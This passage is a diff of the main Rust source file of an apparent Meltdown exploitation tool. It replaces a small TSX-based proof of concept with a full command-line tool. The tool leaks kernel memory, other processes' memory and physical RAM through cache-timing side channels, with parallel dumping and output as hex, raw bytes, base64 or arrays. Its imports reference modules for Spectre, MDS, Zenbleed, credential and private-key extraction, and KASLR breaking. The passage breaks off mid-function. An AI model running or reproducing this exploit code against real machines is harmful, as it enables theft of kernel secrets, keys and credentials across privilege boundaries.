@@ -1,193 +1,3076 @@
-#![feature(alloc, allocator_api)]
-#![feature(asm)]
-#![feature(pointer_methods)]
 #![feature(iterator_step_by)]
+#![feature(pointer_methods)]
 
-extern crate alloc;
-extern crate llvmint;
+extern crate libc;
+extern crate meltdown_rust;
 extern crate page_size;
-extern crate x86;
-
-use BeginResult::*;
-
-use llvmint::x86::xend;
-
-use alloc::heap::{Alloc, Heap, Layout};
-use std::cmp::min;
-use std::mem::{transmute, uninitialized};
-use std::sync::atomic::fence;
-use std::sync::atomic::Ordering::*;
-
-#[repr(u32)]
-#[derive(Copy, Clone, PartialEq, Eq)]
-#[allow(unused)]
-enum BeginResult {
-    XBeginStarted = !(0 as u32),
-    XAbortExplicit = 1 << 0,
-    XAbortRetry = 1 << 1,
-    XAbortConflict = 1 << 2,
-    XAbortCapacity = 1 << 3,
-    XAbortDebug = 1 << 4,
-    XAbortNested = 1 << 5,
-}
-
-const CHUNK_SIZE: usize = 8;
-const LINE_LEN: usize = 32;
-const PAGE_SIZE: usize = 4096;
-
-#[inline(always)]
-unsafe fn xbegin() -> BeginResult {
-    transmute(llvmint::x86::xbegin())
-}
-
-// flushes the cache line pointed to by adrs
-#[inline(always)]
-unsafe fn flush(adrs: *const u8) {
-    asm!(
-            "mfence; \
-             clflush 0($0)"
-            :: "r" (adrs)
-            :: "volatile"
+
+mod cli;
+mod batch;
+mod checkpoint;
+mod hexdump;
+mod interrupt;
+mod repl;
+mod report;
+
+use cli::{AesKeysOptions, BannerOptions, BatchOptions, CalibrateOptions, CheckOptions, Command,
+          CovertMode, CovertOptions, CredsOptions, DaemonOptions, DiffOptions, DiffSource,
+          DumpFileOptions, DumpFormat, DumpOptions, DumpRamOptions, EntropyOptions, FalloutOptions,
+          GdbServerOptions, GdsOptions, HttpOptions, KaslrOptions, L1tfOptions, LazyFpOptions,
+          MdsOptions, PhysmapOptions, PrivKeysOptions, PsOptions, RamFormat, ReaderOptions,
+          ReplOptions, ReportOptions, SearchOptions, SpectreOptions, StoreBypassOptions,
+          StringsOptions, SurveyOptions, SysregOptions, TextEncoding, WatchOptions,
+          ZenbleedOptions};
+use hexdump::{base64, decode_utf16le, decode_utf8, dump_hex, dump_hex_with, dump_json, dump_xxd,
+              HexFormat, ARRAY_ROW_LEN, BASE64_LINE_LEN, CHUNK_SIZE, LINE_LEN};
+use checkpoint::DumpState;
+use repl::{Addr, Line, Setting};
+use meltdown_rust::aes::{self, KeySize};
+use meltdown_rust::chase::{self, Base};
+use meltdown_rust::covert::{self, SharedChannel, Transmission};
+use meltdown_rust::cpu::{self, CpuFeatures, CpuModel, Vendor};
+use meltdown_rust::daemon;
+use meltdown_rust::diff::{self, Difference};
+use meltdown_rust::dwarf::Dwarf;
+use meltdown_rust::elf::Elf;
+use meltdown_rust::entropy;
+use meltdown_rust::fallout::{StoreBufferSampler, StoreSource};
+use meltdown_rust::gds::{self, GatherSampler};
+use meltdown_rust::http;
+use meltdown_rust::kaslr;
+use meltdown_rust::kernel;
+use meltdown_rust::l1tf::TerminalFault;
+use meltdown_rust::layout;
+use meltdown_rust::lazy_fp::{self, LazyFpSampler};
+use meltdown_rust::lime;
+use meltdown_rust::maps;
+use meltdown_rust::mds::{self, FillBufferSampler};
+use meltdown_rust::mitigations::{self, Status, StoreBypass as StoreBypassControl};
+use meltdown_rust::page_cache;
+use meltdown_rust::physmap::{self, DirectMap};
+use meltdown_rust::privkey::{self, Algorithm, Encoding, PrivateKey, Structure};
+use meltdown_rust::retbleed::ReturnMispredict;
+use meltdown_rust::rsp;
+use meltdown_rust::search;
+use meltdown_rust::slices::Pagemap;
+use meltdown_rust::spectre_btb::BranchTargetInjection;
+use meltdown_rust::spectre_pht::BoundsCheckBypass;
+use meltdown_rust::spectre_ssb::StoreBypass;
+use meltdown_rust::strings;
+use meltdown_rust::survey;
+use meltdown_rust::symbols::{SymbolTarget, Symbols};
+use meltdown_rust::sysreg::{self, RegisterReader, SystemRegister};
+use meltdown_rust::tasks::{read_pointer, Creds, Tasks};
+use meltdown_rust::timer::{self, TimerSource};
+use meltdown_rust::topology::{CacheInfo, Topology};
+use meltdown_rust::types::{self, Type};
+use meltdown_rust::uarch;
+use meltdown_rust::zenbleed::{self, RegisterFileSampler};
+use meltdown_rust::{ByteGuess, Calibration, LatencyStats, MeltdownConfig, MeltdownReader,
+                    Receiver, Suppression, PAGE_SIZE};
+
+use std::cmp::{max, min};
+use std::collections::BTreeMap;
+use std::env;
+use std::fs::{self, File, OpenOptions};
+use std::io::{self, BufRead, BufReader, BufWriter, Read, Seek, SeekFrom, Write};
+use std::mem;
+use std::net::TcpListener;
+use std::ops::Range;
+use std::os::unix::fs::{MetadataExt, PermissionsExt};
+use std::os::unix::net::{UnixListener, UnixStream};
+use std::path::Path;
+use std::process;
+use std::thread;
+use std::time::{Duration, Instant, SystemTime, UNIX_EPOCH};
+
+fn yes_no(b: bool) -> &'static str {
+    if b {
+        "yes"
+    } else {
+        "no"
+    }
+}
+
+// tells the user up front whether the kernel already blocks the attack
+fn report_mitigations() {
+    let vulnerabilities = match mitigations::vulnerabilities() {
+        Ok(vulnerabilities) => vulnerabilities,
+        Err(e) => {
+            eprintln!("could not read {}: {}", mitigations::VULNERABILITIES_DIR, e);
+            return;
+        }
+    };
+    eprintln!("kernel reported vulnerabilities:");
+    for v in &vulnerabilities {
+        eprintln!("    {}: {}", v.name, v.raw);
+    }
+    match vulnerabilities.iter().find(|v| v.name == "meltdown") {
+        Some(v) => match v.status {
+            Status::Mitigated(ref how) if how.contains("PTI") => eprintln!(
+                "warning: KPTI is active, kernel memory is unmapped while this process runs \
+                 so reads of kernel addresses will return garbage"
+            ),
+            Status::NotAffected => eprintln!(
+                "warning: the kernel reports this CPU is not affected by meltdown, \
+                 reads of memory this process can't access will return garbage"
+            ),
+            _ => {}
+        },
+        None => eprintln!("the kernel does not report a meltdown status"),
+    }
+}
+
+// timestamp counter deltas don't track the core's actual speed while it
+// changes frequency, warn if the governor lets it do that
+fn report_governor(core: Option<usize>) {
+    let core = match core {
+        Some(core) => core,
+        None => return,
+    };
+    match cpu::scaling_governor(core) {
+        Ok(ref governor) if governor == "performance" => {}
+        Ok(governor) => eprintln!(
+            "warning: cpu {} uses the `{}` cpufreq governor, timings are more stable with \
+             `performance`",
+            core, governor
+        ),
+        Err(e) => eprintln!("could not read the cpufreq governor of cpu {}: {}", core, e),
+    }
+}
+
+// pins the calling thread to core, for the reader it goes on to build
+fn pin(core: usize) -> io::Result<()> {
+    cpu::pin_to_core(core)
+        .map_err(|e| io::Error::new(e.kind(), format!("could not pin to cpu {}: {}", core, e)))
+}
+
+// reports the detected CPU features and builds a reader with the requested
+// (or best available) suppression strategy, on the requested core
+fn make_reader(opts: &ReaderOptions) -> io::Result<MeltdownReader> {
+    report_mitigations();
+
+    if let Some(core) = opts.cpu {
+        pin(core)?;
+        eprintln!("pinned to cpu {}", core);
+    }
+    report_governor(opts.cpu.or_else(cpu::current_core));
+
+    timer::select(opts.timer)?;
+    if opts.timer != TimerSource::Tsc {
+        eprintln!("timing probes with the {:?} timer", opts.timer);
+    }
+
+    let features = CpuFeatures::detect();
+    eprintln!(
+        "cpu: rtm: {}, hle: {}, rdtscp: {}, clflushopt: {}",
+        yes_no(features.rtm),
+        yes_no(features.hle),
+        yes_no(features.rdtscp),
+        yes_no(features.clflushopt)
+    );
+
+    let suppression = match opts.suppression {
+        Some(suppression) => suppression,
+        None => {
+            let suppression = Suppression::detect();
+            if suppression != Suppression::Tsx {
+                eprintln!("TSX is unavailable, falling back to {:?} suppression", suppression);
+            }
+            suppression
+        }
+    };
+    let reader = build_reader(opts, suppression)?;
+    eprintln!("hit threshold: {} cycles", reader.calibration().threshold);
+    Ok(reader)
+}
+
+// builds a reader configured by opts, without reporting anything. the core
+// is warmed up first, so the calibration isn't measured at idle frequency
+fn build_reader(opts: &ReaderOptions, suppression: Suppression) -> io::Result<MeltdownReader> {
+    cpu::warm_up(opts.warmup);
+    let mut config = MeltdownConfig::with_suppressor(suppression)
+        .hugepages(opts.hugepages)
+        .dual_probe(opts.dual_probe)
+        .evict(opts.evict)
+        .pipeline(opts.pipeline)
+        .min_confidence(opts.min_confidence);
+    if let Some(channel) = opts.channel {
+        config = config.channel(channel);
+    }
+    if let Some(ref path) = opts.calibration {
+        config = config.calibration(Calibration::load(path)?);
+    }
+    if let Some(retries) = opts.retries {
+        config = config.max_retries(retries);
+    }
+    config.build()
+}
+
+// leaks the range in opts from start_addr on, split into `opts.jobs` shards
+// of whole lines, each on its own thread pinned to one of cores with its own
+// reader. workers start from `--cpu`, or the first of cores. an interrupted
+// dump returns the guesses up to the first shard that didn't finish
+fn guess_parallel(
+    opts: &DumpOptions,
+    start_addr: usize,
+    cores: &[usize],
+) -> io::Result<Vec<ByteGuess>> {
+    let suppression = opts.reader.suppression.unwrap_or_else(Suppression::detect);
+    timer::select(opts.reader.timer)?;
+    interrupt::install()?;
+    let shard_lines = (opts.len + LINE_LEN - 1) / LINE_LEN;
+    let shard_len = (shard_lines + opts.jobs - 1) / opts.jobs * LINE_LEN;
+    let first = opts.reader
+        .cpu
+        .and_then(|cpu| cores.iter().position(|&core| core >= cpu))
+        .unwrap_or(0);
+
+    let workers: Vec<_> = (0..opts.jobs)
+        .map(|job| {
+            let start = min(job * shard_len, opts.len);
+            let len = min(start + shard_len, opts.len) - start;
+            let addr = start_addr + start;
+            let core = cores[(first + job) % cores.len()];
+            let reader_opts = opts.reader.clone();
+            let worker = thread::spawn(move || -> io::Result<Vec<ByteGuess>> {
+                pin(core)?;
+                timer::prepare_thread()?;
+                let reader = build_reader(&reader_opts, suppression)?;
+                let mut guesses = Vec::with_capacity(len);
+                for line_start in (0..len).step_by(LINE_LEN) {
+                    if interrupt::interrupted() {
+                        break;
+                    }
+                    let line_addr = (addr + line_start) as *const u8;
+                    guesses.extend(reader.guess_range(line_addr, min(len - line_start, LINE_LEN)))
+                }
+                Ok(guesses)
+            });
+            (worker, len)
+        })
+        .collect();
+
+    // every worker is joined before any result is looked at, so none is
+    // left running when one failed
+    let shards: Vec<_> = workers
+        .into_iter()
+        .map(|(worker, len)| (worker.join(), len))
+        .collect();
+    let mut result = Vec::with_capacity(opts.len);
+    for (shard, len) in shards {
+        let guesses =
+            shard.map_err(|_| io::Error::new(io::ErrorKind::Other, "a dump worker panicked"))??;
+        let finished = guesses.len() == len;
+        result.extend(guesses);
+        if !finished {
+            break;
+        }
+    }
+    Ok(result)
+}
+
+// why leaking kernel memory can't work on this CPU, unless opts forces it.
+// only Intel cores forward data from faulting loads
+fn unsupported_vendor(opts: &ReaderOptions) -> Option<String> {
+    let model = CpuModel::detect();
+    if model.vendor == Vendor::Intel {
+        if let Some(core) = uarch::lookup(&model) {
+            if !core.meltdown {
+                eprintln!(
+                    "warning: {} is documented as not affected by Meltdown, expect noise",
+                    core.name
+                );
+            }
+        }
+        return None;
+    }
+    if opts.force {
+        eprintln!("warning: this is not an Intel CPU, running anyway");
+        return None;
+    }
+    let vendor = match model.vendor {
+        Vendor::Amd => "an AMD",
+        _ => "a non-Intel",
+    };
+    Some(format!(
+        "this is {} CPU. Meltdown depends on a load that faults handing its data to the \
+         instructions after it, which only Intel cores do, so every byte would come back as \
+         noise. pass `--force` to run anyway",
+        vendor
+    ))
+}
+
+// where physical address 0 is mapped: page_offset if given, otherwise the
+// direct map base physmap finds
+fn direct_map_base(reader: &MeltdownReader, page_offset: Option<usize>) -> io::Result<usize> {
+    if let Some(base) = page_offset {
+        return Ok(base);
+    }
+    eprintln!("finding the direct map, pass `--page-offset` to skip this");
+    let candidates = physmap::candidates(kaslr::Locator::detect(), 8)?;
+    match physmap::find(reader, &candidates)? {
+        Some(DirectMap::Confirmed(base)) => {
+            eprintln!("direct map base: 0x{:016x}", base);
+            Ok(base)
+        }
+        Some(DirectMap::Guessed(base)) => {
+            eprintln!(
+                "warning: physical addresses are hidden, guessing the direct map starts at \
+                 0x{:016x}",
+                base
+            );
+            Ok(base)
+        }
+        None => Err(io::Error::new(
+            io::ErrorKind::NotFound,
+            "could not find the direct map, pass its base with `--page-offset`",
+        )),
+    }
+}
+
+// a System.map relocated to where the kernel image is found by timing
+fn relocated_system_map(path: &Path) -> io::Result<Symbols> {
+    let symbols = Symbols::load(path)
+        .map_err(|e| io::Error::new(e.kind(), format!("{}: {}", path.display(), e)))?;
+    let locator = kaslr::Locator::detect();
+    eprintln!("finding the kernel image with {:?} to relocate {}", locator, path.display());
+    let text_base = locator.scan(kaslr::KERNEL_TEXT, 8)?.base().ok_or_else(|| {
+        io::Error::new(
+            io::ErrorKind::NotFound,
+            "could not find the kernel image, so the System.map can't be relocated",
+        )
+    })?;
+    eprintln!("kernel text base: 0x{:016x}", text_base);
+    symbols.relocated(text_base).ok_or_else(|| {
+        io::Error::new(
+            io::ErrorKind::InvalidData,
+            format!("{} has no `_text` symbol", path.display()),
+        )
+    })
+}
+
+// the kernel's symbols, from system_map if given and kallsyms otherwise
+fn kernel_symbols(system_map: Option<&Path>) -> io::Result<Symbols> {
+    match system_map {
+        Some(path) => relocated_system_map(path),
+        None => Symbols::kallsyms().map_err(|e| {
+            io::Error::new(
+                e.kind(),
+                format!("{}. pass `--system-map` to use the kernel's System.map instead", e),
+            )
+        }),
+    }
+}
+
+// the address target points at, from system_map if given and kallsyms
+// otherwise
+fn resolve_symbol(target: &SymbolTarget, system_map: Option<&Path>) -> io::Result<usize> {
+    let symbols = kernel_symbols(system_map)?;
+    let addr = symbols.resolve(target)?;
+    eprintln!("{}+0x{:x} is at 0x{:016x}", target.name, target.offset, addr);
+    Ok(addr)
+}
+
+// the error of a dump whose range wraps around the address space
+fn past_address_space() -> io::Error {
+    io::Error::new(
+        io::ErrorKind::Other,
+        "the dump would run past the end of the address space",
+    )
+}
+
+fn dump(opts: &DumpOptions) -> io::Result<()> {
+    if let Some(reason) = unsupported_vendor(&opts.reader) {
+        return Err(io::Error::new(io::ErrorKind::Other, reason));
+    }
+    let layout = match opts.layout {
+        Some(ref path) => Some(layout::load(path)?),
+        None => None,
+    };
+    let len = layout.as_ref().map_or(opts.len, Type::size);
+    let system_map = opts.system_map.as_ref().map(|p| p.as_path());
+    let mut addr = match opts.symbol {
+        // symbols of another process's binary are looked up by dump_process
+        Some(ref target) if opts.binary.is_none() => resolve_symbol(target, system_map)?,
+        _ => opts.addr,
+    };
+    if let Some(ref chase) = opts.chase {
+        addr = match chase.base {
+            Base::Address(base) => base,
+            Base::Symbol(ref target) => resolve_symbol(target, system_map)?,
+        }
+    }
+    if opts.phys && !opts.allow_mmio {
+        let end = opts.addr.checked_add(len).ok_or_else(past_address_space)?;
+        if let Some(addr) = physmap::first_outside(&system_ram()?, opts.addr..end) {
+            return Err(io::Error::new(
+                io::ErrorKind::Other,
+                format!(
+                    "0x{:x} is not System RAM. reading device memory can hang the machine, pass \
+                     `--allow-mmio` to read it anyway",
+                    addr
+                ),
+            ));
+        }
+    }
+    // read before a reader pins this thread, which narrows its affinity
+    let cores = if opts.jobs > 1 {
+        cpu::allowed_cores()?
+    } else {
+        Vec::new()
+    };
+    // `--jobs` workers build readers of their own, so this one is only built
+    // for a serial dump or to find where a parallel one starts
+    let finds_start = opts.chase.is_some() || (opts.phys && opts.page_offset.is_none());
+    let reader = if opts.jobs == 1 || finds_start {
+        Some(make_reader(&opts.reader)?)
+    } else {
+        None
+    };
+    if let (&Some(ref chase), &Some(ref reader)) = (&opts.chase, &reader) {
+        let hops = chase::follow(reader, addr, &chase.steps)?;
+        for hop in &hops[1..] {
+            eprintln!("-> 0x{:016x}", hop)
+        }
+        addr = *hops.last().unwrap();
+    }
+    if addr.checked_add(len).is_none() {
+        return Err(past_address_space());
+    }
+
+    if let Some(ref reader) = reader {
+        eprintln!(
+            "poke buffer: 0x{:016X}, page size: {}, suppression: {:?}, channel: {:?}",
+            reader.probe_buf() as usize,
+            PAGE_SIZE,
+            reader.suppressor(),
+            reader.channel()
         );
+        if !reader.probe_buf_locked() {
+            eprintln!(
+                "warning: could not mlock the probe buffer, raise `ulimit -l` if timings are noisy"
+            );
+        }
+    }
+
+    let stdout = io::stdout();
+    let mut out: Box<Write> = match opts.out {
+        Some(ref path) => Box::new(BufWriter::new(File::create(path)?)),
+        None => Box::new(stdout.lock()),
+    };
+    // colored unless told otherwise when the dump goes to a terminal
+    let hex = HexFormat {
+        width: opts.width,
+        group: opts.group,
+        base: if opts.relative_offsets { Some(addr) } else { None },
+        color: opts.color.unwrap_or_else(|| {
+            opts.out.is_none() && unsafe { libc::isatty(libc::STDOUT_FILENO) } == 1
+        }),
+    };
+
+    let mut writer = DumpWriter::new(opts.format, hex);
+
+    // `--pid` and `--layout` can't be used with `--jobs`, so they have a reader
+    if let (Some(pid), &Some(ref reader)) = (opts.pid, &reader) {
+        dump_process(opts, &mut writer, pid, layout, reader, &mut out)?;
+        writer.finish(&mut out)?;
+        return out.flush();
+    }
+
+    // physical dumps are labelled with physical addresses
+    let label_addr = addr as *const u8;
+    let start_addr = if opts.phys {
+        let base = match (opts.page_offset, &reader) {
+            (Some(base), _) => base,
+            (None, &Some(ref reader)) => direct_map_base(reader, None)?,
+            (None, &None) => unreachable!("a reader is built to find the direct map"),
+        };
+        base.checked_add(addr)
+            .ok_or_else(|| {
+                io::Error::new(io::ErrorKind::Other, "`--phys` is past the end of the direct map")
+            })?
+    } else {
+        addr
+    };
+    if let (Some(ty), &Some(ref reader)) = (layout, &reader) {
+        let guesses = reader.guess_range(start_addr as *const u8, len);
+        write_typed(&mut out, opts, &ty, addr, &guesses)?;
+        return out.flush();
+    }
+    if opts.jobs > 1 {
+        // a dump cut short still finishes its format
+        let guesses = guess_parallel(opts, start_addr, &cores)?;
+        if guesses.len() < opts.len {
+            report_interrupted(addr, guesses.len(), opts.len);
+        }
+        for (i, line) in guesses.chunks(hex.width).enumerate() {
+            writer.line(&mut out, label_addr.wrapping_add(i * hex.width), line)?
+        }
+    } else if let (&DumpFormat::Json, &Some(ref reader)) = (&opts.format, &reader) {
+        interrupt::install()?;
+        for chunk_start in (0..opts.len).step_by(hex.width) {
+            if interrupt::interrupted() {
+                report_interrupted(addr, chunk_start, opts.len);
+                break;
+            }
+            let bytes_to_read = min(opts.len - chunk_start, hex.width);
+            let chunk_addr = (start_addr as *const u8).wrapping_add(chunk_start);
+            dump_json(
+                &mut out,
+                label_addr.wrapping_add(chunk_start),
+                &reader.profile_range(chunk_addr, bytes_to_read),
+            )?
+        }
+    } else if let Some(ref reader) = reader {
+        // a dump cut short still finishes its format
+        interrupt::install()?;
+        for chunk_start in (0..opts.len).step_by(hex.width) {
+            if interrupt::interrupted() {
+                report_interrupted(addr, chunk_start, opts.len);
+                break;
+            }
+            let bytes_to_read = min(opts.len - chunk_start, hex.width);
+            let chunk_addr = (start_addr as *const u8).wrapping_add(chunk_start);
+            writer.line(
+                &mut out,
+                label_addr.wrapping_add(chunk_start),
+                &reader.guess_range(chunk_addr, bytes_to_read),
+            )?
+        }
+    }
+    writer.finish(&mut out)?;
+    out.flush()
+}
+
+// writes a dump a line of guesses at a time, as format says: hexdump lines
+// shown as hex says, xxd lines, base64, a C or Rust array, or the bytes
+// themselves. every format but hex writes bytes that didn't leak as 0. json
+// dumps need probe times, which parse_dump makes sure are only asked for
+// where dump_json can be used instead
+struct DumpWriter {
+    format: DumpFormat,
+    hex: HexFormat,
+    // bytes written so far, which xxd offsets count
+    offset: usize,
+    // bytes of base64 or of an array waiting for a full row
+    pending: Vec<u8>,
+    // whether an array's opening line has been written
+    opened: bool,
+    // the dump so far when it is decoded as text, which is done as a whole
+    // so that no character is split between lines
+    text: Vec<ByteGuess>,
+}
+
+impl DumpWriter {
+    fn new(format: DumpFormat, hex: HexFormat) -> DumpWriter {
+        DumpWriter {
+            format,
+            hex,
+            offset: 0,
+            pending: Vec::new(),
+            opened: false,
+            text: Vec::new(),
+        }
+    }
+
+    fn line<W: Write>(
+        &mut self,
+        out: &mut W,
+        addr: *const u8,
+        guesses: &[ByteGuess],
+    ) -> io::Result<()> {
+        let bytes: Vec<u8> = guesses.iter().map(|guess| guess.value.unwrap_or(0)).collect();
+        let offset = self.offset;
+        self.offset += guesses.len();
+        match self.format {
+            DumpFormat::Hex => dump_hex_with(out, &self.hex, addr, guesses),
+            DumpFormat::Xxd => dump_xxd(out, offset, guesses),
+            DumpFormat::Raw => out.write_all(&bytes),
+            DumpFormat::Base64 | DumpFormat::CArray | DumpFormat::Rust => {
+                self.open(out)?;
+                self.pending.extend(bytes);
+                let row_len = self.row_len();
+                let full = self.pending.len() / row_len * row_len;
+                let rows: Vec<u8> = self.pending.drain(..full).collect();
+                for row in rows.chunks(row_len) {
+                    self.write_row(out, row)?
+                }
+                Ok(())
+            }
+            DumpFormat::String(_) => {
+                self.text.extend_from_slice(guesses);
+                Ok(())
+            }
+            DumpFormat::Json => unreachable!("json dumps are written with dump_json"),
+        }
+    }
+
+    // writes what is left of base64 or an array, and closes the array, or
+    // writes the dump decoded as text
+    fn finish<W: Write>(&mut self, out: &mut W) -> io::Result<()> {
+        match self.format {
+            DumpFormat::Base64 | DumpFormat::CArray | DumpFormat::Rust => {
+                self.open(out)?;
+                let rest: Vec<u8> = self.pending.drain(..).collect();
+                if !rest.is_empty() {
+                    self.write_row(out, &rest)?
+                }
+                match self.format {
+                    DumpFormat::CArray => writeln!(out, "}};"),
+                    DumpFormat::Rust => writeln!(out, "];"),
+                    _ => Ok(()),
+                }
+            }
+            DumpFormat::String(TextEncoding::Utf8) => write!(out, "{}", decode_utf8(&self.text)),
+            DumpFormat::String(TextEncoding::Utf16Le) => {
+                write!(out, "{}", decode_utf16le(&self.text))
+            }
+            _ => Ok(()),
+        }
+    }
+
+    fn open<W: Write>(&mut self, out: &mut W) -> io::Result<()> {
+        if self.opened {
+            return Ok(());
+        }
+        self.opened = true;
+        match self.format {
+            DumpFormat::CArray => writeln!(out, "uint8_t data[] = {{"),
+            DumpFormat::Rust => writeln!(out, "const DATA: &[u8] = &["),
+            _ => Ok(()),
+        }
+    }
+
+    fn row_len(&self) -> usize {
+        match self.format {
+            DumpFormat::Base64 => BASE64_LINE_LEN,
+            _ => ARRAY_ROW_LEN,
+        }
+    }
+
+    fn write_row<W: Write>(&self, out: &mut W, row: &[u8]) -> io::Result<()> {
+        match self.format {
+            DumpFormat::Base64 => writeln!(out, "{}", base64(row)),
+            _ => {
+                let items: Vec<String> = row.iter().map(|byte| format!("0x{:02x}", byte)).collect();
+                writeln!(out, "    {},", items.join(", "))
+            }
+        }
+    }
+}
+
+// what is dumped for memory that isn't there to be read
+const UNREAD: ByteGuess = ByteGuess {
+    value: None,
+    hits: 0,
+    rounds: 0,
+};
+
+// how much physical memory dump-ram leaks between progress reports
+const RAM_REGION_LEN: usize = 1 << 20;
+
+// where target, a symbol of elf, loaded from binary, is in process pid
+fn binary_symbol(pid: u32, binary: &Path, elf: &Elf, target: &SymbolTarget) -> io::Result<usize> {
+    let symbol = elf.symbol(&target.name).ok_or_else(|| {
+        io::Error::new(
+            io::ErrorKind::NotFound,
+            format!("{} has no symbol called `{}`", binary.display(), target.name),
+        )
+    })?;
+    // maps files name binaries by their canonical path
+    let path = fs::canonicalize(binary)?;
+    let bias = elf.load_bias(&maps::read(pid)?, &path.to_string_lossy())
+        .ok_or_else(|| {
+            io::Error::new(
+                io::ErrorKind::NotFound,
+                format!("process {} has not mapped {}", pid, path.display()),
+            )
+        })?;
+    let addr = symbol
+        .value
+        .wrapping_add(bias)
+        .wrapping_add(target.offset);
+    eprintln!(
+        "{}+0x{:x} is at 0x{:016x} in process {}, {} bytes long",
+        target.name, target.offset, addr, pid, symbol.size
+    );
+    Ok(addr)
 }
 
-// ensure the buffer we probe is completely out of cache
-#[inline(always)]
-unsafe fn flush_probe_buf(buf: *const u8) {
-    for i in 0..256 {
-        flush(buf.add(i * PAGE_SIZE))
+// dumps memory of process pid, translating each page with its pagemap and
+// reading it through the direct map
+fn dump_process<W: Write>(
+    opts: &DumpOptions,
+    writer: &mut DumpWriter,
+    pid: u32,
+    layout: Option<Type>,
+    reader: &MeltdownReader,
+    out: &mut W,
+) -> io::Result<()> {
+    // the variable's type, when it is printed as one
+    let mut typed = layout;
+    let ranges: Vec<Range<usize>> = match opts.region {
+        Some(ref region) => maps::read(pid)?
+            .into_iter()
+            .filter(|mapping| mapping.matches(region))
+            .map(|mapping| mapping.start..mapping.end)
+            .collect(),
+        None => {
+            let addr = match (opts.binary.as_ref(), opts.symbol.as_ref()) {
+                (Some(binary), Some(target)) => {
+                    let elf = Elf::load(binary).map_err(|e| {
+                        io::Error::new(e.kind(), format!("{}: {}", binary.display(), e))
+                    })?;
+                    if opts.typed {
+                        typed = Some(Dwarf::parse(&elf)?.variable_type(&target.name)?);
+                    }
+                    binary_symbol(pid, binary, &elf, target)?
+                }
+                _ => opts.addr,
+            };
+            let len = typed.as_ref().map_or(opts.len, Type::size);
+            let end = addr.checked_add(len).ok_or_else(past_address_space)?;
+            vec![addr..end]
+        }
+    };
+    if ranges.is_empty() {
+        return Err(io::Error::new(
+            io::ErrorKind::NotFound,
+            format!(
+                "process {} has no `{}` mappings",
+                pid,
+                opts.region.as_ref().map(|r| &r[..]).unwrap_or("")
+            ),
+        ));
     }
+    let pagemap = Pagemap::of_process(pid)?;
+    let base = direct_map_base(reader, opts.page_offset)?;
+    if let Some(ty) = typed {
+        let range = ranges[0].clone();
+        let guesses = leak_process(reader, &pagemap, base, range.clone())?;
+        return write_typed(out, opts, &ty, range.start, &guesses);
+    }
+    // ranges follow each other in the dump, but each range's relative
+    // offsets are from its own start
+    for range in ranges {
+        eprintln!("0x{:016x}-0x{:016x}", range.start, range.end);
+        writer.hex.base = writer.hex.base.map(|_| range.start);
+        let width = writer.hex.width;
+        for line_start in (range.start..range.end).step_by(width) {
+            let line_end = min(line_start + width, range.end);
+            let guesses = leak_process(reader, &pagemap, base, line_start..line_end)?;
+            writer.line(out, line_start as *const u8, &guesses)?
+        }
+    }
+    Ok(())
+}
+
+// prints guesses, leaked from addr, as a value of type ty, named after the
+// symbol if there is one
+fn write_typed<W: Write>(
+    out: &mut W,
+    opts: &DumpOptions,
+    ty: &Type,
+    addr: usize,
+    guesses: &[ByteGuess],
+) -> io::Result<()> {
+    let bytes: Vec<_> = guesses.iter().map(|guess| guess.value).collect();
+    let name = match opts.symbol {
+        Some(ref target) => target.name.clone(),
+        None => format!("at 0x{:016x}", addr),
+    };
+    writeln!(out, "{} {} = {}", ty.name(), name, types::format(ty, &bytes, 0))
 }
 
-#[inline(always)]
-fn time<F: FnOnce()>(f: F) -> u64 {
-    fence(SeqCst);
-    let start_time = unsafe { x86::current::time::rdtsc() } as u64;
-    unsafe { asm!("lfence"::::"volatile") };
-    f();
-    let result = unsafe { x86::current::time::rdtscp() as u64 - start_time };
-    result
+// leaks range of a process's memory, a page at a time, since each page is
+// somewhere else in physical memory. pages that aren't present, swapped out
+// or never touched, come back as unknown
+fn leak_process(
+    reader: &MeltdownReader,
+    pagemap: &Pagemap,
+    base: usize,
+    range: Range<usize>,
+) -> io::Result<Vec<ByteGuess>> {
+    let mut guesses = Vec::with_capacity(range.len());
+    let mut addr = range.start;
+    while addr < range.end {
+        let len = min(range.end - addr, PAGE_SIZE - addr % PAGE_SIZE);
+        match pagemap.physical_address(addr as *const u8) {
+            Ok(physical) => guesses.extend(reader.guess_range(
+                (base + physical as usize) as *const u8,
+                len,
+            )),
+            Err(ref e) if e.kind() == io::ErrorKind::NotFound => {
+                guesses.extend(vec![UNREAD; len])
+            }
+            Err(e) => return Err(e),
+        }
+        addr += len
+    }
+    Ok(guesses)
 }
 
-// returns an elapsed time for accessing a memory location
-#[inline(always)]
-unsafe fn probe(adrs: *const u8) -> u64 {
-    time(#[inline(always)]
-    || {
-        adrs.read_volatile();
+// the System RAM ranges from /proc/iomem, with an error that says how to do
+// without them
+fn system_ram() -> io::Result<Vec<Range<usize>>> {
+    physmap::system_ram().map_err(|e| {
+        io::Error::new(
+            e.kind(),
+            format!(
+                "could not find which physical memory is RAM: {}. pass `--allow-mmio` to read \
+                 anyway",
+                e
+            ),
+        )
     })
 }
 
-// To determine the value of some arbitrary memory address
-// 1. Allocate a huge buffer (256 * PAGE_SIZE), and flush it from the cache
-// 2. start a speculative execution, which enables unpriviledged access to all memory
-// 3. read that byte from memory and use the value to bring a line from the huge buffer into the cache
-// 4. end speculative execution, it's not committed and the results are discarded (or not), except for cache effects
-// 5. time probing the cache lines to see which one was brought into the cache
-// 6. the cache line with the shortest time to access corresponds to the value of the byte
-#[inline(always)]
-unsafe fn guess_byte_once(secret: *const u8, buf: *const u8) -> u8 {
-    flush_probe_buf(buf);
-
-    // start speculative execution
-    if xbegin() == XBeginStarted {
-        // bring a location in buf into the cache based on the value of *secret
-        buf.add(secret.read_volatile() as usize * PAGE_SIZE)
-            .read_volatile();
-
-        xend();
+// leaks physical memory from opts.start to opts.end into opts.out, so the byte
+// at each offset of the file is the one that far past opts.start. only
+// System RAM is read unless opts allows MMIO. a page that doesn't leak a
+// single byte of its first line is taken to be a hole, and left as zeros
+// without leaking the rest of it. with opts.resume, the progress is saved
+// after every region, and a dump that saved some carries on from it. an
+// interrupted dump stops after the page it is on, saving its progress
+fn dump_ram(opts: &DumpRamOptions) -> io::Result<()> {
+    if let Some(reason) = unsupported_vendor(&opts.reader) {
+        return Err(io::Error::new(io::ErrorKind::Other, reason));
+    }
+    let ram = if opts.allow_mmio {
+        None
     } else {
-        fence(SeqCst);
+        Some(system_ram()?)
+    };
+    let end = match (opts.end, &ram) {
+        (Some(end), _) => end,
+        (None, &Some(ref ram)) => ram.last().map_or(0, |range| range.end),
